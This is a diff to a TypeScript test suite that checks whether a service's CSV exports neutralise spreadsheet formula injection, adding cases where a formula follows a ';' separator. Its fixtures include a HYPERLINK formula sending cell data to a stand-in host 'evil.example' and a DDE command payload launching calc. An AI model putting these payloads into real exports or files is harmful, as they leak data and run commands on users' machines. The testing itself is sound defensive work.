@@ -12,6 +12,9 @@ const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 // A cell a spreadsheet runs: first char (or first non-space char) one of = + - @, or a leading tab / CR.
 const RUNS = /^[\t\r]|^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
 const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
+const running = (c: string) => RUNS.test(c) && !PLAIN_NUMBER.test(c);
+/** The cells a spreadsheet splitting on `;` (French Excel), `,` or tab makes of one of ours, quoted or not. */
+const splitCells = (c: string) => c.split(/[;,\t]/);
 const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
 
 /** RFC 4180 with csv-parse: quoted fields, doubled quotes, CRLF records. */
@@ -83,7 +86,14 @@ describe('query service: hostile input and closed doors (issue 11, apps as proce
         type: 'executive.departed',
         subject: 'person:formula-one',
         occurredAt: '2024-09-25',
-        data: { organization: 'org:openai', role: "+cmd|' /C calc'!A0", roleCategory: 'c-suite', reason: 'resigned' },
+        // A destination that starts a formula after a ";": French Excel splits the line there, inside our quotes too.
+        data: {
+          organization: 'org:openai',
+          role: "+cmd|' /C calc'!A0",
+          roleCategory: 'c-suite',
+          reason: 'resigned',
+          destination: 'Rival;=1+1',
+        },
       },
       {
         type: 'revenue.reported',
@@ -96,7 +106,8 @@ describe('query service: hostile input and closed doors (issue 11, apps as proce
         subject: 'case:formula-v-sheet',
         occurredAt: '2024-08-05',
         // A title cannot start with a tab (one-line text refuses controls): a full-width = is the look-alike to defuse.
-        data: { title: '\uFF1D1+1', plaintiffs: ['person:elon-musk'], defendants: ['org:openai'], court: '  =2+2', claims: ['x'] },
+        // Claims are joined with "; " in a cell: the second starts a formula after the separator.
+        data: { title: '\uFF1D1+1', plaintiffs: ['person:elon-musk'], defendants: ['org:openai'], court: '  =2+2', claims: ['x', '=3+3'] },
       },
     ].map((e) => ({ ...e, sources: [source], modality: 'reported' }));
     const res = await post<BatchAnswer>(`${stack.apps.ingest.url}/v1/events`, { events }, stack.key);
@@ -122,12 +133,14 @@ describe('query service: hostile input and closed doors (issue 11, apps as proce
     `/v1/sources/${sourceId}`,
   ];
 
-  it('given headlines, titles, quotes and outlets starting with =, +, -, @, tab, then no CSV endpoint writes a cell a spreadsheet would run', async () => {
+  it('given headlines, titles, quotes and outlets starting with =, +, -, @, tab, or with one after a ;, then no CSV endpoint writes a cell a spreadsheet would run', async () => {
     for (const path of csvEndpoints()) {
       const res = await get(`${q}${path}${path.includes('?') ? '&' : '?'}format=csv`);
       expect({ path, status: res.status, type: res.type }).toEqual({ path, status: 200, type: expect.stringMatching(/^text\/csv/) });
       const cells = parseCsv(res.text).slice(1).flat();
-      expect({ path, running: cells.filter((c) => RUNS.test(c) && !PLAIN_NUMBER.test(c)) }).toEqual({ path, running: [] });
+      expect({ path, running: cells.filter(running) }).toEqual({ path, running: [] });
+      // Nor one a spreadsheet splitting on ; , or tab would make (a quote counts only where its cell starts).
+      expect({ path, running: cells.filter((c) => splitCells(c).slice(1).some(running)) }).toEqual({ path, running: [] });
       // The text itself is kept, behind a single quote.
       expect({ path, kept: cells.some((c) => c.startsWith(`'${FORMULA}`) || c.startsWith("'-2+3")) }).toEqual({ path, kept: true });
     }
